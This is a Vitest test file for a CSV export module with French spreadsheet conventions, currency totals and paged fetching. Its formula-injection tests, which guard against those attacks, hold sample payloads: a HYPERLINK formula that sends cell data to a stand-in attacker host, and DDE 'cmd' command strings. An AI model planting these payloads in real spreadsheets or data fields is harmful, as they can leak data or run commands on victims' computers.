import { describe, expect, it, vi } from 'vitest';
import { buildCsv, csvAmount, csvDate, csvField, csvFileName, csvNumber, fetchAllPages, totalsByCurrency } from '../../src/domain/csvExport';

interface Row {
  numero: string;
  montant: number;
  devise: string;
  note: string;
}

const rows: Row[] = [
  { numero: 'COL-1', montant: 1234.5, devise: 'CAD', note: 'Espèces' },
  { numero: 'COL-2', montant: 625000, devise: 'GNF', note: 'a;b' },
  { numero: 'COL-3', montant: 10.25, devise: 'CAD', note: 'dit "oui"' },
];

describe('CSV for a French spreadsheet', () => {
  const text = buildCsv({
    columns: [
      { header: 'Numéro', value: (r: Row) => r.numero },
      { header: 'Montant', value: (r: Row) => csvNumber(r.montant, r.devise === 'GNF' ? 0 : 2) },
      { header: 'Devise', value: (r: Row) => r.devise },
      { header: 'Note', value: (r: Row) => r.note },
    ],
    rows,
    totals: { amount: (r) => r.montant, currency: (r) => r.devise },
  });
  const lines = text.slice(1).split('\r\n');

  it('starts with a UTF-8 BOM and separates with ;', () => {
    expect(text.charCodeAt(0)).toBe(0xfeff);
    expect(lines[0]).toBe('Numéro;Montant;Devise;Note');
  });

  it('writes decimal commas without thousands separators and quotes what needs it', () => {
    expect(lines[1]).toBe('COL-1;1234,50;CAD;Espèces');
    expect(lines[2]).toBe('COL-2;625000;GNF;"a;b"');
    expect(lines[3]).toBe('COL-3;10,25;CAD;"dit ""oui"""');
  });

  it('ends with a total per currency after an empty line', () => {
    expect(lines[4]).toBe('');
    expect(lines[5]).toBe('Total CAD;1244,75;2 lignes');
    expect(lines[6]).toBe('Total GNF;625000;1 ligne');
  });

  it('totals only the rows kept by include (e.g. validated payments)', () => {
    const onlyCad = buildCsv({ columns: [{ header: 'N', value: (r: Row) => r.numero }], rows, totals: { amount: (r) => r.montant, currency: (r) => r.devise, include: (r) => r.numero !== 'COL-3' } });
    expect(onlyCad.slice(1).split('\r\n').slice(-3, -1)).toEqual(['Total CAD;1234,50;1 ligne', 'Total GNF;625000;1 ligne']);
  });

  it('totals per currency in order of appearance', () => {
    expect(totalsByCurrency(rows, (r) => r.montant, (r) => r.devise)).toEqual([
      { currency: 'CAD', total: 1244.75, count: 2 },
      { currency: 'GNF', total: 625000, count: 1 },
    ]);
  });
});

describe('CSV cells', () => {
  it('formats numbers, empty values and French dates', () => {
    expect(csvField(3.5)).toBe('3,5');
    expect(csvField(null)).toBe('');
    expect(csvDate('2025-03-04T09:05:00')).toBe('04/03/2025 09:05');
    expect(csvDate('2025-03-04T09:05:00', false)).toBe('04/03/2025');
    expect(csvDate('pas une date')).toBe('');
    expect(csvFileName('caisse', new Date(2025, 2, 4))).toBe('caisse_2025-03-04.csv');
  });
});

describe('CSV formula injection (OWASP): a text never becomes a formula', () => {
  it.each([
    ['=', '=HYPERLINK("http://pirate.example/?v="&A1;"Cliquez")', `"'=HYPERLINK(""http://pirate.example/?v=""&A1;""Cliquez"")"`],
    ['+', '+1+cmd|\' /C calc\'!A0', `"'+1+cmd|' /C calc'!A0"`],
    ['-', '-2+3', `"'-2+3"`],
    ['@', '@SUM(1+1)*cmd|\' /C calc\'!A0', `"'@SUM(1+1)*cmd|' /C calc'!A0"`],
    ['tab', '\t=1+1', `"'\t=1+1"`],
    ['carriage return', '\r=1+1', `"'\r=1+1"`],
  ])('a cell starting with %s gets a leading quote and is quoted', (_name, text, expected) => {
    expect(csvField(text)).toBe(expected);
  });

  it('a sender named =HYPERLINK(…) stays text in the whole file, and a telephone starting with + is not summed either', () => {
    const text = buildCsv({
      columns: [
        { header: 'Expéditeur', value: (r: { nom: string; tel: string }) => r.nom },
        { header: 'Téléphone', value: (r: { nom: string; tel: string }) => r.tel },
      ],
      rows: [{ nom: '=HYPERLINK("http://pirate.example";"Voir")', tel: '+224 620 00 00 00' }],
    });
    expect(text.slice(1).split('\r\n')[1]).toBe(`"'=HYPERLINK(""http://pirate.example"";""Voir"")";"'+224 620 00 00 00"`);
  });

  it('a negative amount written as a number stays a number; the same characters typed as text are neutralised', () => {
    expect(csvField(csvAmount(-12.5, 'CAD'))).toBe('-12,50');
    expect(csvField(csvAmount(-625000, 'GNF'))).toBe('-625000');
    expect(csvField(-3.5)).toBe('-3,5');
    expect(csvField(csvNumber(-0.25, 2))).toBe('-0,25');
    expect(csvField('-12,50')).toBe(`"'-12,50"`);
  });

  it('ordinary texts are left as they are (a dash inside, a leading space, accents)', () => {
    expect(csvField('Jean-Pierre')).toBe('Jean-Pierre');
    expect(csvField(' =pas en tête')).toBe(' =pas en tête');
    expect(csvField('Espèces')).toBe('Espèces');
    expect(csvField('')).toBe('');
  });
});

describe('fetching every page', () => {
  it('asks each page once and reports progress', async () => {
    const fetchPage = vi.fn(async (page: number, size: number) => ({
      rows: Array.from({ length: page < 3 ? size : 5 }, (_, i) => (page - 1) * size + i),
      total: 2 * size + 5,
    }));
    const progress: number[] = [];
    const all = await fetchAllPages(fetchPage, { pageSize: 10, onProgress: (p) => progress.push(p) });
    expect(all).toHaveLength(25);
    expect(fetchPage).toHaveBeenCalledTimes(3);
    expect(progress).toEqual([33, 67, 100]);
  });

  it('handles an empty list in one call', async () => {
    const fetchPage = vi.fn(async () => ({ rows: [] as number[], total: 0 }));
    expect(await fetchAllPages(fetchPage)).toEqual([]);
    expect(fetchPage).toHaveBeenCalledTimes(1);
  });
});
